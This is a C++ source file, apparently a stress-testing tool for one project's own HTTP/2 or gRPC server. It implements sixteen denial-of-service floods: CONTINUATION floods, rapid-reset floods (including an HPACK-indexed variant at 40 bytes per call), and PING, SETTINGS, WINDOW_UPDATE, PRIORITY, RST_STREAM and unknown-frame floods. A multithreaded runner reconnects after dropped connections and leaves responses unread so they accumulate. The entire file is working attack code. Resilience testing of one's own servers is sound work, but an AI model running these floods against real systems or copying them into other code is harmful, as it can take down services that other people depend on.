#include "attack/floods.h"

#include <algorithm>
#include <array>
#include <memory>
#include <stdexcept>
#include <thread>
#include <vector>

#include "attack/processor_share.h"
#include "attack/requests.h"

namespace partiemc::attack {
namespace {

using std::chrono::milliseconds;
using Clock = std::chrono::steady_clock;

constexpr std::size_t kBatch = 1 << 16;
constexpr std::size_t kContinuationBytes = 16'000;

template <typename Queue>
void QueueBatch(Http2Client& client, const Queue& queue) {
  const std::size_t enough = client.queued() + kBatch;
  while (client.queued() < enough) queue();
}

std::uint32_t NoCall(Http2Client&, const Headers&) { return 0; }
std::uint32_t OneCall(Http2Client& client, const Headers& more) {
  return client.Call(CallHeaders(kReconstruct, more));
}

// An open stream, so that its frames are read.
std::uint32_t OpenCall(Http2Client& client, const Headers& more) {
  const auto call = OneCall(client, more);
  client.Data(call, Prefixed(Open().SerializeAsString()));
  client.Flush(milliseconds(1'000));
  client.Read(milliseconds(100));
  return call;
}

std::uint32_t OpenHeaders(Http2Client& client, const Headers& more) {
  return client.CallBlock(HeaderBlock(CallHeaders(kGetServerInfo, more)), 0);
}

std::uint32_t OpenLongHeader(Http2Client& client, const Headers& more) {
  return client.CallBlock(HeaderBlock(CallHeaders(kGetServerInfo, more)) + '\0' +
                              HpackInteger(0, 7, 7) + "x-large" + HpackInteger(0, 7, 1u << 30),
                          0);
}

void Continue(Http2Client& client, std::uint32_t call, const std::string& part) {
  QueueBatch(client, [&] { client.Frame(FrameType::kContinuation, 0, call, part); });
}

void Headers100(Http2Client& client, std::uint32_t call) {
  static const std::string part = [] {
    std::string block;
    for (int k = 0; block.size() < kContinuationBytes; ++k) {
      block += HeaderBlock({{"x-" + std::to_string(k), std::string(100, 'a')}});
    }
    return block;
  }();
  Continue(client, call, part);
}

void TinyHeaders(Http2Client& client, std::uint32_t call) {
  static const std::string part = [] {
    std::string block;
    while (block.size() < kContinuationBytes) block += HeaderBlock({{"x", ""}});
    return block;
  }();
  Continue(client, call, part);
}

void LongHeader(Http2Client& client, std::uint32_t call) {
  static const std::string part(kContinuationBytes, 'a');
  Continue(client, call, part);
}

void EmptyContinuations(Http2Client& client, std::uint32_t call) { Continue(client, call, ""); }

void ResetCalls(Http2Client& client, std::uint32_t) {
  static const std::string block = HeaderBlock(CallHeaders(kGetServerInfo));
  QueueBatch(client, [&] { client.Reset(client.CallBlock(block)); });
}

// The headers are in the connection's table, so a call takes 40 bytes.
std::uint32_t IndexHeaders(Http2Client& client, const Headers&) {
  std::string block;
  for (const auto& [name, value] : CallHeaders(kGetServerInfo)) {
    block +=
        '\x40' + HpackInteger(0, 7, name.size()) + name + HpackInteger(0, 7, value.size()) + value;
  }
  return client.CallBlock(block);
}

void ResetIndexedCalls(Http2Client& client, std::uint32_t) {
  static const std::string block = [] {
    std::string indices;
    for (std::uint8_t k = 0; k < 6; ++k) indices += static_cast<char>(0x80 | (67 - k));
    return indices;
  }();
  QueueBatch(client, [&] { client.Reset(client.CallBlock(block)); });
}

void OpenCalls(Http2Client& client, std::uint32_t) {
  static const std::string block = HeaderBlock(CallHeaders(kReconstruct));
  QueueBatch(client, [&] { client.CallBlock(block); });
}

void WindowUpdates(Http2Client& client, std::uint32_t call) {
  QueueBatch(client, [&] { client.WindowUpdate(call, 1); });
}

void Pings(Http2Client& client, std::uint32_t) {
  QueueBatch(client, [&] { client.Ping(1); });
}

void Settings(Http2Client& client, std::uint32_t) {
  QueueBatch(client, [&] { client.Setting(4, 65'535); });
}

void EmptySettings(Http2Client& client, std::uint32_t) {
  QueueBatch(client, [&] { client.Frame(FrameType::kSettings, 0, 0, ""); });
}

void EmptyData(Http2Client& client, std::uint32_t call) {
  QueueBatch(client, [&] { client.Frame(FrameType::kData, 0, call, ""); });
}

void Priorities(Http2Client& client, std::uint32_t call) {
  QueueBatch(client, [&] { client.Frame(FrameType::kPriority, 0, call, std::string(5, '\0')); });
}

void Resets(Http2Client& client, std::uint32_t call) {
  QueueBatch(client, [&] { client.Reset(call + 1'000'000); });
}

void UnknownFrames(Http2Client& client, std::uint32_t) {
  static const std::string payload(100, 'x');
  QueueBatch(client, [&] { client.Frame(static_cast<FrameType>(0x77), 0, 0, payload); });
}

constexpr std::array kFloods = {
    Flood{"continuation", "HEADERS without an end, headers of 100 bytes", OpenHeaders, Headers100},
    Flood{"continuation-tiny", "the same, headers of four bytes", OpenHeaders, TinyHeaders},
    Flood{"continuation-long", "the same, one header without an end", OpenLongHeader, LongHeader},
    Flood{"continuation-empty", "the same, no header", OpenHeaders, EmptyContinuations},
    Flood{"rapid-reset", "calls that are reset at once", NoCall, ResetCalls},
    Flood{"rapid-reset-indexed", "the same in 40 bytes a call", IndexHeaders, ResetIndexedCalls},
    Flood{"open-calls", "calls without a message", NoCall, OpenCalls},
    Flood{"window-update", "WINDOW_UPDATE of a call", OneCall, WindowUpdates},
    Flood{"window-update-connection", "WINDOW_UPDATE of the connection", NoCall, WindowUpdates},
    Flood{"ping", "PING", NoCall, Pings},
    Flood{"settings", "SETTINGS", NoCall, Settings},
    Flood{"settings-empty", "SETTINGS that set nothing", NoCall, EmptySettings},
    Flood{"data-empty", "DATA of no byte, in a stream that is open", OpenCall, EmptyData},
    Flood{"priority", "PRIORITY", OneCall, Priorities},
    Flood{"reset-unknown", "RST_STREAM of calls that are not there", OneCall, Resets},
    Flood{"unknown-frames", "frames of an unknown type", NoCall, UnknownFrames},
};

struct Counts {
  std::atomic<std::uint64_t> bytes = 0, connections = 0, refused = 0;
};

// One attacker, which reconnects after each lost connection.
void SendFlood(const Flood& flood, const FloodSettings& settings, Counts& counts) {
  const auto began = Clock::now(), end = began + settings.time;
  const std::uint64_t most = settings.most_bytes / settings.connections;
  const double rate = settings.bytes_per_second / static_cast<double>(settings.connections);
  std::uint64_t sent = 0;
  Headers more;
  if (!settings.token.empty()) more.emplace_back("authorization", "Bearer " + settings.token);
  std::unique_ptr<Http2Client> client;
  std::uint32_t call = 0;
  while (Clock::now() < end && sent < most) {
    try {
      if (!client || client->closed()) {
        client = std::make_unique<Http2Client>(
            settings.address, Http2Client::Options{.source = settings.source, .tls = settings.tls});
        ++counts.connections;
        call = flood.begin(*client, more);
      }
      flood.queue(*client, call);
    } catch (const std::runtime_error&) {
      ++counts.refused;
      std::this_thread::sleep_for(milliseconds(5));
      continue;
    }
    const std::size_t queued = client->queued();
    if (rate > 0) {
      const std::chrono::duration<double> due(static_cast<double>(sent + queued) / rate);
      std::this_thread::sleep_until(began + std::chrono::duration_cast<Clock::duration>(due));
    }
    // Leaves responses unread, so that they accumulate.
    client->Flush(milliseconds(300), /*read=*/false);
    sent += queued - client->queued();
    counts.bytes += queued - client->queued();
  }
}

}  // namespace

std::span<const Flood> Floods() { return kFloods; }

FloodOutcome RunFlood(const Flood& flood, const FloodSettings& settings) {
  Counts counts;
  std::vector<std::thread> attackers;
  for (std::size_t k = 0; k < settings.connections; ++k) {
    attackers.emplace_back([&] {
      if (settings.yield_processors) YieldProcessors();
      SendFlood(flood, settings, counts);
    });
  }
  for (std::thread& attacker : attackers) attacker.join();
  return {.bytes = counts.bytes, .connections = counts.connections, .refused = counts.refused};
}

}  // namespace partiemc::attack
